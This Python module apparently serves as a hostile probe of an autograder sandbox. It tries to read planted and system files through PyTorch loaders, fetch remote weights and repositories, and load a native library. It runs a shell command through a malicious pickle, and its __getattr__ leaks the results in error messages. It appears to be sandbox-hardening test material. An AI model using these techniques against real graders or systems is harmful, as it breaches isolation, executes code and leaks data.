"""Reads by PyTorch what open() would not: mapped storages, checkpoints, downloads, pickles."""

ATTEMPTS = "secrets: torch.load, from_file, mmap'd storages, torch.hub; pickles that run programs"

import io
import os
import pickle

import torch

PLACES = ["/tmp/autograder-hostile-planted", "/dev/shm/autograder-hostile-planted", "/etc/hostname"]
FOUND = []


class Program:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-hostile-marker-pickle",))


def attempt(action):
    try:
        FOUND.append(action())
    except BaseException as error:
        FOUND.append(type(error).__name__)


for place in PLACES:
    attempt(lambda: bytes(torch.from_file(place, False, 32, dtype=torch.uint8).tolist()))
    attempt(lambda: bytes(torch.UntypedStorage.from_file(place, False, 32).tolist()))
    attempt(lambda: torch.load(place, weights_only=False))
attempt(lambda: torch.load(io.BytesIO(pickle.dumps(Program())), weights_only=False))
attempt(lambda: torch.hub.load_state_dict_from_url("http://127.0.0.1:48151/weights.pt"))
attempt(lambda: torch.hub.load("pytorch/vision", "resnet18", trust_repo=True))
attempt(lambda: torch.ops.load_library("/tmp/autograder-hostile-planted"))


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)

    def tell(*arguments, **keywords):
        raise RuntimeError(f"found: {FOUND}"[:1900])

    return tell
